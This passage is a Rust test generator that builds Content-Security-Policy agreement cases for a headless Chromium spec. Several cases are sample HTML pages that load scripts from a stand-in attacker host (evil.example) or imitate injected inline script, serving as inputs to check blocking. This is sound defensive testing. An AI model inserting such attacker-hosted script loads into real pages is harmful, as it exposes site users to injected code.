//! Writes the CSP agreement cases with the engine's predictions as JSON, for
//! `tests/e2e/csp-agreement.spec.ts`, which runs each case in headless Chromium and checks the
//! browser did exactly what the engine predicted. Cases are grouped by the directive they are
//! about, so the spec reports agreement per directive and a gap shows up as a failing case.
//!
//!   cargo run -p dragonproof-engines --example csp_agreement -- http://127.0.0.1:4192
//!
//! The argument is the origin the preview document is served from: the page URL for `'self'`
//! is `<origin>/static/preview.html`, as in the app.
//!
//! Conventions the spec shares with this file, so "what ran" can be predicted:
//! - inline code that should be seen running calls `alert('<marker>')` first;
//! - code in `eval(...)` / `new Function(...)` / a string timer calls `alert('eval')`; a
//!   WebAssembly compile that succeeds calls `alert('wasm')`;
//! - every fetched `.js` URL is answered by the spec with `alert('ext:<url>')`; a `data:`
//!   script says its own marker; `.css` and `.html` get a small body, everything else a 404
//!   (so a media element or a font tries its next source, as it does after a block);
//! - only handlers that fire on their own are allowed (`<svg onload>`, `<body onload>`,
//!   `onerror` on an image that fails); a handler that waits for a click is checked (Chromium
//!   checks handlers when it reads the attribute) but must be blocked in a case.
//!
//! What the preview cannot show (a resource with a [`PreviewGap`]) is predicted as nothing
//! happening, so a case for it checks that the preview really shows nothing.

use dragonproof_engines::csp::hash::digest;
use dragonproof_engines::csp::source::HashAlgorithm;
#[allow(unused_imports)]
use dragonproof_engines::csp::PreviewGap;
use dragonproof_engines::csp::{
    analyze, preview_document, Decision, Delivery, Disposition, PolicyInput, ResourceKind, Verdict,
};
use serde::Serialize;

#[derive(Serialize)]
struct Violation {
    directive: String,
    blocked: String,
}

#[derive(Serialize)]
struct Case {
    /// The directive the case is about (`img-src`), or `policy` for parsing and policy lists.
    group: String,
    name: String,
    policies: Vec<String>,
    page: String,
    /// What the spec posts to the preview: the policies as <meta> first, then the page.
    document: String,
    violations: Vec<Violation>,
    ran: Vec<String>,
    /// How long the spec waits after the page is written: media elements and fonts report late.
    settle_ms: u32,
}

fn marker(text: &str) -> Option<String> {
    let at = text.find("alert(")?;
    let rest = &text[at + 6..];
    let quote = rest.chars().next().filter(|c| matches!(c, '\'' | '"'))?;
    let end = rest[1..].find(quote)?;
    Some(rest[1..1 + end].to_string())
}

fn origin() -> String {
    std::env::args().nth(1).unwrap_or_else(|| "http://127.0.0.1:4173".into())
}

fn case(name: &str, policies: &[&str], page: &str) -> Case {
    let inputs: Vec<PolicyInput> =
        policies.iter().map(|t| PolicyInput { text: t.to_string(), disposition: Disposition::Enforce }).collect();
    let analysis = analyze(&inputs, Delivery::Meta, &format!("{}/static/preview.html", origin()), page);
    let mut violations = Vec::new();
    let mut ran = Vec::new();
    let mut settle_ms = 700;
    for result in &analysis.evaluation.results {
        if matches!(result.verdict, Verdict::NeverRuns { .. } | Verdict::InvalidUrl)
            || result.resource.preview_gap.is_some()
        {
            continue;
        }
        // Media elements, fonts, frames, objects and scripts that are fetched (a parser-blocking
        // script, an import(), an inserted script) report or run late on a loaded machine.
        if matches!(
            result.resource.kind,
            ResourceKind::Media
                | ResourceKind::Font
                | ResourceKind::Frame
                | ResourceKind::Object
                | ResourceKind::ExternalScript
                | ResourceKind::DynamicScript
        ) {
            settle_ms = 2000;
        }
        // Every enforced policy that blocks reports its own violation; Chromium reports a
        // blocked lazy image twice (once when it defers the load, once when it starts it).
        let reports = if result.resource.lazy { 2 } else { 1 };
        for decision in &result.decisions {
            if matches!(decision, Decision::Blocked { .. }) {
                for _ in 0..reports {
                    violations.push(Violation {
                        directive: result.effective_directive.to_string(),
                        blocked: result.blocked_uri.clone(),
                    });
                }
            }
        }
        if result.verdict != Verdict::Allowed {
            continue;
        }
        let seen = match result.resource.kind {
            ResourceKind::InlineScript | ResourceKind::EventHandler | ResourceKind::DynamicInlineScript => {
                result.resource.text.as_deref().and_then(marker)
            }
            ResourceKind::Eval => Some("eval".to_string()),
            ResourceKind::WasmCompile => Some("wasm".to_string()),
            ResourceKind::ExternalScript | ResourceKind::DynamicScript
                if !result.resource.label.starts_with("<link") =>
            {
                match result.resolved.as_deref() {
                    Some(url) if url.starts_with("data:") => marker(url),
                    Some(url) => Some(format!("ext:{url}")),
                    None => None,
                }
            }
            _ => None,
        };
        ran.extend(seen);
    }
    let document = preview_document(policies, page);
    Case {
        group: String::new(),
        name: name.into(),
        policies: policies.iter().map(|p| p.to_string()).collect(),
        page: page.into(),
        document,
        violations,
        ran,
        settle_ms,
    }
}

/// Puts `cases` in `group`.
fn group(all: &mut Vec<Case>, group: &str, cases: Vec<Case>) {
    all.extend(cases.into_iter().map(|case| Case { group: group.into(), ..case }));
}

fn sha(algorithm: HashAlgorithm, text: &str) -> String {
    format!("'{}-{}'", algorithm.name(), digest(algorithm, text))
}

fn main() {
    use HashAlgorithm::*;
    let s = "alert('s')";
    let h = "alert('h')";
    let script = |marker: &str| format!("<script>alert('{marker}')</script>");
    let dynamic = |url: &str| {
        format!("<script nonce=castle123>alert('s'); const d = document.createElement('script'); d.src = '{url}'; document.documentElement.append(d);</script>")
    };
    let eval_page = "<script>alert('s'); try { eval(\"alert('eval')\") } catch (e) {}</script>";
    let function_page = "<script>alert('s'); try { new Function(\"alert('eval')\")() } catch (e) {}</script>";
    let wasm_page = "<script>alert('s'); WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])).then(() => alert('wasm'), () => {});</script>";
    let sri_body = "alert(\"ext:https://cdn.example/sri.js\")";
    let base64url = digest(Sha256, s).replace('+', "-").replace('/', "_").trim_end_matches('=').to_string();
    // A script that runs (marker `s`) and then does `code`, under `policy` plus inline scripts.
    let run = |code: &str| format!("<script>alert('s'); {code}</script>");
    let worker = |url: &str| run(&format!("try {{ new Worker({url}) }} catch (e) {{}}"));
    let ws_self = origin().replacen("http", "ws", 1) + "/live";
    let mut cases = Vec::new();
    group(
        &mut cases,
        "script-src-elem",
        vec![
            case("a policy without script directives lets inline script run", &["img-src 'none'"], &script("s")),
            case("script-src 'self' blocks inline script", &["script-src 'self'"], &script("s")),
            case("'unsafe-inline' runs inline script", &["script-src 'unsafe-inline'"], &script("s")),
            case("a matching nonce runs, a missing one is blocked", &["script-src 'nonce-castle123'"], "<script nonce=castle123>alert('mine')</script><script>alert('injected')</script>"),
            case("nonces are case-sensitive", &["script-src 'nonce-Castle123'"], "<script nonce=castle123>alert('s')</script>"),
            case("'unsafe-inline' is ignored beside a nonce", &["script-src 'nonce-castle123' 'unsafe-inline'"], &script("s")),
            case("a nonce on an element with a duplicate attribute is not trusted", &["script-src 'nonce-castle123'"], "<script nonce=castle123 nonce=castle123>alert('s')</script>"),
            case("a sha256 hash runs exactly that script", &[&format!("script-src {}", sha(Sha256, s))], "<script>alert('s')</script><script>alert('t')</script>"),
            case("a hash does not survive a changed space", &[&format!("script-src {}", sha(Sha256, s))], "<script> alert('s')</script>"),
            case("sha384 and sha512 hashes", &[&format!("script-src {} {}", sha(Sha384, s), sha(Sha512, "alert('t')"))], "<script>alert('s')</script><script>alert('t')</script><script>alert('u')</script>"),
            case("a base64url hash without padding", &[&format!("script-src 'sha256-{base64url}'")], &script("s")),
            case("'unsafe-inline' is ignored beside a hash", &[&format!("script-src 'unsafe-inline' {}", sha(Sha256, s))], "<script>alert('s')</script><script>alert('t')</script>"),
            case("default-src covers scripts", &["default-src 'self'"], &script("s")),
            case("script-src overrides default-src", &["default-src 'none'; script-src 'unsafe-inline'"], &script("s")),
            case("script-src-elem overrides script-src", &["script-src 'none'; script-src-elem 'unsafe-inline'"], &script("s")),
            case("'self' allows the page's own scripts", &["script-src 'self'"], "<script src=/agreement/castle.js></script>"),
            case("a host allows its scripts only", &["script-src https://cdn.example"], "<script src=https://cdn.example/lib.js></script><script src=https://evil.example/x.js></script>"),
            case("a wildcard host matches subdomains, not the domain", &["script-src https://*.example.com"], "<script src=https://cdn.example.com/a.js></script><script src=https://example.com/b.js></script>"),
            case("a path ending in / is a prefix", &["script-src https://cdn.example/js/"], "<script src=https://cdn.example/js/a.js></script><script src=https://cdn.example/jsx/b.js></script>"),
            case("a path without / is exact", &["script-src https://cdn.example/js/a.js"], "<script src=https://cdn.example/js/a.js></script><script src=https://cdn.example/js/a.jsx></script>"),
            case("a port must match", &["script-src https://cdn.example:8443"], "<script src=https://cdn.example:8443/a.js></script><script src=https://cdn.example/b.js></script>"),
            case("https: allows https only", &["script-src https:"], "<script src=https://cdn.example/a.js></script><script src=http://cdn.example/b.js></script>"),
            case("http: also allows https (the secure upgrade)", &["script-src http:"], "<script src=https://cdn.example/a.js></script>"),
            case("* does not match data:", &["script-src *"], "<script src=\"data:text/javascript,alert('d')\"></script><script src=https://any.example/a.js></script>"),
            case("data: allows a data: script", &["script-src data:"], "<script src=\"data:text/javascript,alert('d')\"></script>"),
            case("unquoted self is a host name, not the keyword", &["script-src self"], "<script src=/agreement/castle.js></script>"),
            case("a listed integrity hash allows an external script", &[&format!("script-src {}", sha(Sha256, sri_body))],
                &format!("<script src=https://cdn.example/sri.js integrity=\"sha256-{}\" crossorigin=anonymous></script>", digest(Sha256, sri_body))),
            case("an integrity hash that is not listed does not", &[&format!("script-src {}", sha(Sha256, "other"))],
                &format!("<script src=https://cdn.example/sri.js integrity=\"sha256-{}\" crossorigin=anonymous></script>", digest(Sha256, sri_body))),
            case("'strict-dynamic' trusts what a nonced script inserts", &["script-src 'nonce-castle123' 'strict-dynamic'"], &dynamic("https://any.example/dyn.js")),
            case("'strict-dynamic' ignores hosts for scripts in the HTML", &["script-src 'nonce-castle123' 'strict-dynamic' https://cdn.example"], "<script src=https://cdn.example/lib.js></script>"),
            case("'strict-dynamic' without a nonce blocks every script", &["script-src 'strict-dynamic' 'unsafe-inline'"], &script("s")),
            case("without 'strict-dynamic' an inserted script needs a matching source", &["script-src 'nonce-castle123'"], &dynamic("https://any.example/dyn.js")),
            case("a port wildcard matches any port", &["script-src https://cdn.example:*"], "<script src=https://cdn.example:8443/a.js></script>"),
            case("a module script is checked like any script", &["script-src 'self'"], "<script type=module src=/agreement/module.js></script><script type=module>alert('m')</script>"),
            case("a nonce on a script with `<script` in an attribute is not trusted", &["script-src 'nonce-castle123'"], "<script nonce=castle123 data-x=\"<script\">alert('s')</script>"),
            case("document.write's script is parser-inserted: 'strict-dynamic' does not trust it", &["script-src 'nonce-castle123' 'strict-dynamic'"], "<script nonce=castle123>alert('s'); document.write('<script src=https://cdn.example/w.js><\\/script>')</script>"),
            case("document.write's script is checked against the hosts", &["script-src 'nonce-castle123' https://cdn.example"], "<script nonce=castle123>alert('s'); document.write('<script src=https://cdn.example/w.js><\\/script>')</script>"),
            case("document.write's inline script needs its own nonce", &["script-src 'nonce-castle123' 'strict-dynamic'"], "<script nonce=castle123>alert('s'); document.write('<script>alert(\"w\")<\\/script>')</script>"),
            case("import() is checked against script-src", &["script-src 'unsafe-inline'"], &run("import('https://cdn.example/m.js').catch(() => {});")),
            case("import() from an allowed host runs", &["script-src 'unsafe-inline' https://cdn.example"], &run("import('https://cdn.example/m.js').catch(() => {});")),
            case("'strict-dynamic' trusts import() from a nonced script", &["script-src 'nonce-castle123' 'strict-dynamic'"], "<script nonce=castle123>alert('s'); import('https://cdn.example/m.js').catch(() => {});</script>"),
            case("modulepreload is checked against script-src", &["script-src 'none'"], "<link rel=modulepreload href=https://cdn.example/m.js>"),
            case("preload as=script is checked against script-src", &["script-src 'none'"], "<link rel=preload as=script href=https://cdn.example/p.js>"),
            case("script-src-elem governs a script preload", &["script-src 'unsafe-inline'; script-src-elem 'self'"], "<link rel=preload as=script href=https://cdn.example/p.js>"),
            case("an SVG <script href> is a script", &["script-src 'none'"], "<svg><script href=https://cdn.example/s.js></script></svg>"),
            case("an SVG <script xlink:href> is a script", &["script-src https://cdn.example"], "<svg><script xlink:href=https://cdn.example/s.js></script><script href=https://evil.example/s.js></script></svg>"),
            case("Chromium: 'strict-dynamic' trusts an inline script a nonced script inserts", &["script-src 'nonce-castle123' 'strict-dynamic'"], "<script nonce=castle123>alert('s'); const d = document.createElement('script'); d.textContent = \"alert('d')\"; document.documentElement.append(d);</script>"),
            case("without 'strict-dynamic' an inserted inline script needs 'unsafe-inline'", &["script-src 'nonce-castle123'"], "<script nonce=castle123>alert('s'); const d = document.createElement('script'); d.textContent = \"alert('d')\"; document.documentElement.append(d);</script>"),
            case("'unsafe-inline' runs an inserted inline script", &["script-src 'unsafe-inline'"], &run("const d = document.createElement('script'); d.text = \"alert('d')\"; document.documentElement.append(d);")),
            case("an inserted inline script allowed by its hash", &[&format!("script-src 'nonce-castle123' {}", sha(Sha256, "alert('d')"))], "<script nonce=castle123>alert('s'); const d = document.createElement('script'); d.textContent = \"alert('d')\"; document.documentElement.append(d);</script>"),
            case("a script assigned to innerHTML never runs, so nothing is checked", &["script-src 'nonce-castle123'"], "<div id=d></div><script nonce=castle123>alert('s'); document.getElementById('d').innerHTML = '<script src=https://cdn.example/i.js><\\/script>';</script>"),
            case("a script inside <noscript> is text", &["script-src 'none'"], "<noscript><script src=https://cdn.example/n.js></script></noscript>"),
            case("a script inside <template> is inert", &["script-src 'none'"], "<template><script>alert('t')</script></template>"),
            case("a data: script needs data:", &["script-src 'self'"], "<script src=\"data:text/javascript,alert('d')\"></script>"),
        ],
    );
    group(
        &mut cases,
        "script-src-attr",
        vec![
            case("'unsafe-inline' runs an event handler", &["script-src 'unsafe-inline'"], "<svg onload=\"alert('h')\"></svg>"),
            case("script-src 'self' blocks an event handler", &["script-src 'self'"], "<svg onload=\"alert('h')\"></svg>"),
            case("script-src-attr governs handlers, script-src the rest", &["script-src 'unsafe-inline'; script-src-attr 'none'"], "<svg onload=\"alert('h')\"></svg><script>alert('s')</script>"),
            case("a handler's hash needs 'unsafe-hashes'", &[&format!("script-src {}", sha(Sha256, h))], "<svg onload=\"alert('h')\"></svg>"),
            case("'unsafe-hashes' with the handler's hash runs it", &[&format!("script-src 'unsafe-hashes' {}", sha(Sha256, h))], "<svg onload=\"alert('h')\"></svg>"),
            case("a click handler is checked when the attribute is read", &["script-src 'none'"], "<button onclick=\"alert('h')\">b</button>"),
            case("an image's onerror handler is blocked", &["script-src 'self'"], "<img src=/agreement/missing.png onerror=\"alert('h')\">"),
            case("<body onload> runs with 'unsafe-inline'", &["script-src 'unsafe-inline'"], "<body onload=\"alert('h')\">"),
            case("a nonce never covers a handler", &["script-src 'nonce-castle123'"], "<svg nonce=castle123 onload=\"alert('h')\"></svg>"),
            case("a handler in HTML assigned to innerHTML is checked", &["script-src 'nonce-castle123' 'strict-dynamic'"], "<div id=d></div><script nonce=castle123>alert('s'); document.getElementById('d').innerHTML = '<img src=/agreement/missing.png onerror=\"alert(1)\">';</script>"),
            case("script-src-attr alone allows handlers", &["script-src 'none'; script-src-attr 'unsafe-inline'"], "<svg onload=\"alert('h')\"></svg><script>alert('s')</script>"),
        ],
    );
    group(
        &mut cases,
        "script-src",
        vec![
            case("eval is blocked without 'unsafe-eval'", &["script-src 'unsafe-inline'"], eval_page),
            case("'unsafe-eval' allows eval", &["script-src 'unsafe-inline' 'unsafe-eval'"], eval_page),
            case("new Function is string compilation too", &["script-src 'unsafe-inline'"], function_page),
            case(
                "WebAssembly compilation is blocked without 'wasm-unsafe-eval'",
                &["script-src 'unsafe-inline'"],
                wasm_page,
            ),
            case(
                "'wasm-unsafe-eval' allows WebAssembly but not eval",
                &["script-src 'unsafe-inline' 'wasm-unsafe-eval'"],
                wasm_page,
            ),
            case("'unsafe-eval' allows WebAssembly too", &["script-src 'unsafe-inline' 'unsafe-eval'"], wasm_page),
            case(
                "a string given to setTimeout is string compilation",
                &["script-src 'unsafe-inline'"],
                &run("setTimeout(\"alert('eval')\", 0);"),
            ),
            case(
                "'unsafe-eval' allows a string timer",
                &["script-src 'unsafe-inline' 'unsafe-eval'"],
                &run("setTimeout(\"alert('eval')\", 0);"),
            ),
            case("default-src governs eval", &["default-src 'unsafe-inline'"], eval_page),
            case("'unsafe-eval' in default-src allows eval", &["default-src 'unsafe-inline' 'unsafe-eval'"], eval_page),
            case(
                "script-src-elem does not allow eval",
                &["script-src 'unsafe-inline'; script-src-elem 'unsafe-inline' 'unsafe-eval'"],
                eval_page,
            ),
        ],
    );
    group(
        &mut cases,
        "style-src-elem",
        vec![
            case("style-src 'self' blocks a <style>", &["style-src 'self'"], "<style>p { color: red }</style><p>x</p>"),
            case(
                "a nonced <style> is allowed",
                &["style-src 'nonce-castle123'"],
                "<style nonce=castle123>p { color: red }</style><style>p { color: blue }</style><p>x</p>",
            ),
            case(
                "an external stylesheet from another host",
                &["style-src 'self'"],
                "<link rel=stylesheet href=https://css.example/a.css><p>x</p>",
            ),
            case(
                "a <style> allowed by its hash",
                &[&format!("style-src {}", sha(Sha256, "p { color: red }"))],
                "<style>p { color: red }</style><style>p { color: blue }</style><p>x</p>",
            ),
            case(
                "default-src covers an external stylesheet on the page's origin",
                &["default-src 'none'"],
                "<link rel=stylesheet href=/agreement/castle.css><p>x</p>",
            ),
            case(
                "@import is checked against style-src",
                &["style-src 'self' 'unsafe-inline'"],
                "<style>@import url(https://css.example/i.css); p { color: red }</style><p>x</p>",
            ),
            case(
                "@import from an allowed host",
                &["style-src 'unsafe-inline' https://css.example"],
                "<style>@import 'https://css.example/i.css';</style><p>x</p>",
            ),
            case(
                "an @import after a rule is ignored, so not checked",
                &["style-src 'unsafe-inline'"],
                "<style>p { color: red } @import url(https://css.example/late.css);</style><p>x</p>",
            ),
            case(
                "a blocked <style> imports nothing",
                &["style-src 'self'"],
                "<style>@import url(https://css.example/i.css);</style><p>x</p>",
            ),
            case(
                "preload as=style is checked against style-src",
                &["style-src 'none'"],
                "<link rel=preload as=style href=https://css.example/p.css>",
            ),
            case(
                "an alternate stylesheet is fetched and checked",
                &["style-src 'none'"],
                "<link rel=\"alternate stylesheet\" title=alt href=https://css.example/alt.css>",
            ),
            case(
                "default-src covers @import",
                &["default-src 'none'; style-src-elem 'unsafe-inline'"],
                "<style>@import url(/agreement/i.css);</style>",
            ),
        ],
    );
    group(
        &mut cases,
        "style-src-attr",
        vec![
            case("style-src 'self' blocks a style attribute", &["style-src 'self'"], "<p style=\"color: red\">x</p>"),
            case(
                "style-src-attr and style-src-elem apart",
                &["style-src 'unsafe-inline'; style-src-attr 'none'"],
                "<style>p { color: red }</style><p style=\"color: blue\">x</p>",
            ),
            case(
                "a style attribute allowed by 'unsafe-hashes' and its hash",
                &[&format!("style-src 'unsafe-hashes' {}", sha(Sha256, "color: red"))],
                "<p style=\"color: red\">x</p><p style=\"color: blue\">y</p>",
            ),
            case(
                "style-src-attr 'unsafe-inline' with style-src-elem 'none'",
                &["style-src-elem 'none'; style-src-attr 'unsafe-inline'"],
                "<p style=\"color: red\">x</p><style>p { color: blue }</style>",
            ),
        ],
    );
    group(
        &mut cases,
        "font-src",
        vec![
            case("font-src blocks a font the page uses", &["style-src 'unsafe-inline'; font-src 'none'"], "<style>@font-face { font-family: Castle; src: url(https://fonts.example/castle.woff2) } p { font-family: Castle }</style><p>castle</p>"),
            case("every @font-face source is checked, used or not", &["style-src 'unsafe-inline'; font-src 'none'"], "<style>@font-face { font-family: Castle; src: url(https://fonts.example/castle.woff2) }</style><p>x</p>"),
            case("each source of a font is checked in turn", &["style-src 'unsafe-inline'; font-src 'none'"], "<style>@font-face { font-family: Castle; src: local(Nope), url(https://fonts.example/a.woff2) format('woff2'), url('https://fonts.example/b.woff') format('woff') } p { font-family: Castle }</style><p>castle</p>"),
            case("font-src allows its host only", &["style-src 'unsafe-inline'; font-src https://fonts.example"], "<style>@font-face { font-family: A; src: url(https://fonts.example/a.woff2) } @font-face { font-family: B; src: url(https://evil.example/b.woff2) }</style><p>x</p>"),
            case("preload as=font is checked against font-src", &["font-src 'none'"], "<link rel=preload as=font crossorigin href=https://fonts.example/p.woff2>"),
            case("default-src covers fonts", &["default-src 'none'; style-src 'unsafe-inline'"], "<style>@font-face { font-family: Castle; src: url(https://fonts.example/castle.woff2) }</style>"),
            case("a blocked <style> loads no font", &["style-src 'self'; font-src 'none'"], "<style>@font-face { font-family: Castle; src: url(https://fonts.example/castle.woff2) }</style><p>x</p>"),
            case("a font in @media is checked too", &["style-src 'unsafe-inline'; font-src 'none'"], "<style>@media screen { @font-face { font-family: M; src: url(https://fonts.example/m.woff2) } }</style>"),
        ],
    );
    group(
        &mut cases,
        "img-src",
        vec![
            case("img-src allows 'self' only", &["img-src 'self'"], "<img src=/agreement/ok.png><img src=https://img.example/a.png>"),
            case("img-src https: does not allow data:", &["img-src https:"], "<img src=\"data:image/gif;base64,R0lGODlhAQABAAAAACw=\">"),
            case("default-src covers images", &["default-src 'none'"], "<img src=https://img.example/a.png>"),
            case("upgrade-insecure-requests upgrades before the check", &["img-src https:; upgrade-insecure-requests"], "<img src=http://img.example/a.png>"),
            case("img-src data: allows a data: image", &["img-src 'self' data:"], "<img src=\"data:image/gif;base64,R0lGODlhAQABAAAAACw=\">"),
            case("srcset: the 1x candidate is requested", &["img-src 'none'"], "<img srcset=\"https://img.example/a.png 1x, https://img.example/b.png 2x\">"),
            case("srcset: src is the 1x candidate", &["img-src 'none'"], "<img src=https://img.example/a.png srcset=\"https://img.example/b.png 2x\">"),
            case("srcset: the smallest density of at least 1", &["img-src 'none'"], "<img srcset=\"https://img.example/a.png 1.5x, https://img.example/b.png 3x, https://img.example/c.png 0.5x\">"),
            case("srcset: the densest when all are below 1", &["img-src 'none'"], "<img srcset=\"https://img.example/a.png 0.5x, https://img.example/b.png 0.75x\">"),
            case("srcset: a candidate without a descriptor is 1x", &["img-src 'none'"], "<img srcset=\"https://img.example/a.png, https://img.example/b.png 2x\">"),
            case("srcset: only the chosen candidate must be allowed", &["img-src https://img.example"], "<img srcset=\"https://img.example/a.png 1x, https://evil.example/b.png 2x\">"),
            case("<picture>: the first source of a known type wins", &["img-src 'none'"], "<picture><source srcset=https://img.example/s.webp type=image/webp><img src=https://img.example/i.png></picture>"),
            case("<picture>: a source of an unknown type is skipped", &["img-src 'none'"], "<picture><source srcset=https://img.example/u.png type=image/x-unknown><img src=https://img.example/i.png></picture>"),
            case("a video's poster is an image", &["img-src 'none'"], "<video poster=https://img.example/p.png></video>"),
            case("<input type=image> is an image", &["img-src 'none'"], "<input type=image src=https://img.example/b.png>"),
            case("an SVG <image href> is an image", &["img-src 'none'"], "<svg><image href=https://img.example/s.png /></svg>"),
            case("an SVG <image xlink:href> is an image", &["img-src 'none'"], "<svg><image xlink:href=https://img.example/x.png /></svg>"),
            case("an SVG <feImage> is an image", &["img-src 'none'"], "<svg><filter id=f><feImage href=https://img.example/f.png /></filter><rect filter=url(#f) width=10 height=10 /></svg>"),
            case("<image> outside SVG is an <img>", &["img-src 'none'"], "<image src=https://img.example/i.png>"),
            case("a frame's icon is checked against img-src", &["img-src 'none'"], "<link rel=icon href=https://img.example/i.png>"),
            case("an apple-touch-icon too", &["img-src 'none'"], "<link rel=apple-touch-icon href=https://img.example/a.png>"),
            case("preload as=image", &["img-src 'none'"], "<link rel=preload as=image href=https://img.example/p.png>"),
            case("preload as=image with imagesrcset picks the 1x", &["img-src 'none'"], "<link rel=preload as=image imagesrcset=\"https://img.example/a.png 1x, https://img.example/b.png 2x\">"),
            case("a background in a style attribute", &["img-src 'none'; style-src 'unsafe-inline'"], "<p style=\"background-image: url(https://img.example/bg.png)\">x</p>"),
            case("a background in a rule that matches", &["img-src 'none'; style-src 'unsafe-inline'"], "<style>p { background: url(https://img.example/bg.png) }</style><p>x</p>"),
            case("a rule that matches nothing loads nothing", &["img-src 'none'; style-src 'unsafe-inline'"], "<style>.nothing { background: url(https://img.example/bg.png) }</style><p>x</p>"),
            case("class and id selectors", &["img-src 'none'; style-src 'unsafe-inline'"], "<style>.hero { background: url(https://img.example/h.png) } #top { background: url(https://img.example/t.png) } .absent { background: url(https://img.example/x.png) }</style><p class=\"big hero\">x</p><div id=top>y</div>"),
            case("a selector list", &["img-src 'none'; style-src 'unsafe-inline'"], "<style>h1, p { background: url(https://img.example/l.png) }</style><p>x</p>"),
            case("body always exists", &["img-src 'none'; style-src 'unsafe-inline'"], "<style>body { background: url(https://img.example/b.png) }</style>"),
            case(":root is <html>", &["img-src 'none'; style-src 'unsafe-inline'"], "<style>:root { background-image: url('https://img.example/r.png') }</style>"),
            case("an element in <head> is not rendered", &["img-src 'none'; style-src 'unsafe-inline'"], "<style>style { background-image: url(https://img.example/b.png) }</style>"),
            case("a cursor image", &["img-src 'none'; style-src 'unsafe-inline'"], "<p style=\"cursor: url(https://img.example/c.png), auto\">x</p>"),
            case("image-set picks the 1x", &["img-src 'none'; style-src 'unsafe-inline'"], "<p style=\"background-image: image-set(url(https://img.example/a.png) 1x, url(https://img.example/b.png) 2x)\">x</p>"),
            case("image-set with strings, no 1x", &["img-src 'none'; style-src 'unsafe-inline'"], "<p style=\"background-image: image-set('https://img.example/a.png' 2x, 'https://img.example/b.png' 3x)\">x</p>"),
            case("-webkit-image-set", &["img-src 'none'; style-src 'unsafe-inline'"], "<p style=\"background-image: -webkit-image-set(url(https://img.example/a.png) 1x, url(https://img.example/b.png) 2x)\">x</p>"),
            case("several backgrounds", &["img-src 'none'; style-src 'unsafe-inline'"], "<p style=\"background: url(https://img.example/a.png), url(https://img.example/b.png)\">x</p>"),
            case("list-style-image", &["img-src 'none'; style-src 'unsafe-inline'"], "<ul><li style=\"list-style-image: url(https://img.example/l.png)\">x</li></ul>"),
            case("mask-image", &["img-src 'none'; style-src 'unsafe-inline'"], "<p style=\"mask-image: url(https://img.example/m.png)\">x</p>"),
            case("border-image", &["img-src 'none'; style-src 'unsafe-inline'"], "<p style=\"border: 5px solid; border-image: url(https://img.example/b.png) 30 round\">x</p>"),
            case("content: url() on ::before", &["img-src 'none'; style-src 'unsafe-inline'"], "<style>p::before { content: url(https://img.example/c.png) }</style><p>x</p>"),
            case("display: none loads no background", &["img-src 'none'; style-src 'unsafe-inline'"], "<p style=\"display:none; background-image: url(https://img.example/bg.png)\">x</p>"),
            case("a blocked style attribute loads no background", &["img-src 'none'; style-src 'self'"], "<p style=\"background-image: url(https://img.example/bg.png)\">x</p>"),
            case("a blocked <style> loads no background", &["img-src 'none'; style-src 'self'"], "<style>p { background: url(https://img.example/bg.png) }</style><p>x</p>"),
            case("Chromium reports a blocked lazy image twice", &["img-src 'none'"], "<img loading=lazy src=https://img.example/lazy.png>"),
            case("an image in a <template> is inert", &["img-src 'none'"], "<template><img src=https://img.example/t.png></template>"),
            case("an image whose URL cannot be parsed is not requested", &["img-src 'none'"], "<img src=\"http://[bad\">"),
            case("HTML assigned to innerHTML loads its images", &["script-src 'unsafe-inline'; img-src 'none'"], &format!("<div id=d></div>{}", run("document.getElementById('d').innerHTML = '<img src=https://img.example/i.png>';"))),
            case("insertAdjacentHTML loads its images", &["script-src 'unsafe-inline'; img-src 'none'"], &run("document.documentElement.insertAdjacentHTML('beforeend', '<img src=https://img.example/adj.png>');")),
            case("document.write loads its images", &["script-src 'unsafe-inline'; img-src 'none'"], &run("document.write('<img src=https://img.example/w.png>');")),
            case("a blocked image's onerror runs with 'unsafe-inline'", &["script-src 'unsafe-inline'; img-src 'none'"], "<img src=https://img.example/e.png onerror=\"alert('h')\">"),
            case("default-src covers srcset and CSS images", &["default-src 'none'; style-src 'unsafe-inline'"], "<img srcset=\"https://img.example/a.png 1x\"><p style=\"background: url(https://img.example/b.png)\">x</p>"),
        ],
    );
    group(
        &mut cases,
        "media-src",
        vec![
            case("a video's src", &["media-src 'none'"], "<video src=https://media.example/v.mp4></video>"),
            case("an audio's src", &["media-src 'none'"], "<audio src=https://media.example/a.mp3></audio>"),
            case("every <source> is tried in turn", &["media-src 'none'"], "<video><source src=https://media.example/v.webm><source src=https://media.example/v.mp4></video>"),
            case("with src, the <source>s are never tried", &["media-src 'none'"], "<video src=https://media.example/v.mp4><source src=https://media.example/s.mp4></video>"),
            case("a track without default is not fetched", &["media-src 'none'"], "<video><track src=https://media.example/t.vtt></video>"),
            case("the default track is fetched", &["media-src 'none'"], "<video><track default src=https://media.example/t.vtt></video>"),
            case("only the first default track", &["media-src 'none'"], "<video><track default src=https://media.example/a.vtt><track default src=https://media.example/b.vtt></video>"),
            case("preload=none still checks the media", &["media-src 'none'"], "<audio preload=none src=https://media.example/a.mp3></audio>"),
            case("default-src covers media and the poster", &["default-src 'none'"], "<video poster=https://img.example/p.png src=https://media.example/v.mp4></video>"),
            case("preload as=track is checked against media-src", &["media-src 'none'"], "<link rel=preload as=track href=https://media.example/t.vtt>"),
            case("a <source> outside a media element is nothing", &["media-src 'none'"], "<source src=https://media.example/x.mp4>"),
            case("media-src allows its host only", &["media-src https://media.example"], "<audio><source src=https://evil.example/a.mp3><source src=https://media.example/a.mp3></audio>"),
        ],
    );
    group(
        &mut cases,
        "frame-src",
        vec![
            case(
                "frame-src blocks a frame",
                &["frame-src 'none'"],
                "<iframe src=https://frames.example/f.html></iframe>",
            ),
            case(
                "child-src covers frames when frame-src is absent",
                &["child-src 'none'"],
                "<iframe src=https://frames.example/f.html></iframe>",
            ),
            case(
                "<frame> in a body is dropped by the parser",
                &["frame-src 'none'"],
                "<frame src=https://frames.example/f.html>",
            ),
            case(
                "a lazy iframe is checked once",
                &["frame-src 'none'"],
                "<iframe loading=lazy src=https://frames.example/lazy.html></iframe>",
            ),
            case(
                "an <object>'s document is checked as a frame",
                &["frame-src 'none'"],
                "<object data=https://frames.example/o.html></object>",
            ),
            case(
                "an <object>'s image is framed too",
                &["frame-src 'none'"],
                "<object data=https://img.example/o.png type=image/png></object>",
            ),
            case(
                "an <embed>'s document is checked as a frame",
                &["frame-src 'none'"],
                "<embed src=https://frames.example/e.html type=text/html>",
            ),
            case("an <embed>'s image is not framed", &["frame-src 'none'"], "<embed src=https://img.example/p.png>"),
            case(
